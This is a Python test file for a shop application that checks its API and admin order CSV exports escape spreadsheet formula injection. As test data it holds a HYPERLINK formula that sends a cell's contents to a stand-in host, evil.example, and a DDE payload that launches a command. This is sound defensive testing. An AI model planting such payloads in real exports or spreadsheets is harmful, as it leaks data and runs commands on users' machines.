"""No cell of a CSV export is a formula to a spreadsheet: the API's orders export, the admin's,
and the reports' share one rule (store/csv_cells.py)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from orderdeck.store.csv_cells import cell

from ..admin.conftest import AdminClient, admin_app, owner
from ..conftest import Api, Shop

__all__ = ["admin_app", "owner"]  # the admin fixtures, for the admin's export

HOSTILE_LINE = {"title": '=HYPERLINK("http://evil.example/?"&A1,"Open")', "price": "12.50", "quantity": 1}
HOSTILE = {
    "customer": {"first_name": "@SUM(1+1)", "last_name": "x"},
    "tags": "-2+3, \tplain",
}


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12.50", "-12.50"),  # a number stays a number
        ("+31612345678", "+31612345678"),
        ("Anna", "Anna"),
        (None, ""),
    ],
)
def test_a_cell_is_never_a_formula(value: Any, shown: Any) -> None:
    assert cell(value) == shown


@pytest.fixture(autouse=True)
def location(shop: Shop) -> int:
    return shop.location()


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def check_neutralised(row: dict[str, str]) -> None:
    assert row["Customer"] == "'@SUM(1+1) x"
    assert row["Line items"] == "1x " + HOSTILE_LINE["title"]  # begins with the quantity: no formula
    assert row["Total"] == "12.50"
    assert all(not value.startswith(("=", "+", "@", "\t", "\r")) for value in row.values())


def test_the_api_orders_export_neutralises_formulas(api: Api, shop: Shop) -> None:
    shop.order([HOSTILE_LINE], **HOSTILE)
    answer = api.get("/orders/export.csv", params={"status": "any"})
    assert answer.status_code == 200, answer.text
    [row] = rows_of(answer.text)
    check_neutralised(row)
    assert row["Tags"].startswith("'")


def test_the_admin_orders_export_neutralises_formulas(owner: AdminClient, shop: Shop) -> None:
    shop.order([HOSTILE_LINE], **HOSTILE)
    answer = owner.client.get("/admin/orders/export.csv?status=any")
    assert answer.status_code == 200, answer.text
    [row] = rows_of(answer.text)
    check_neutralised(row)
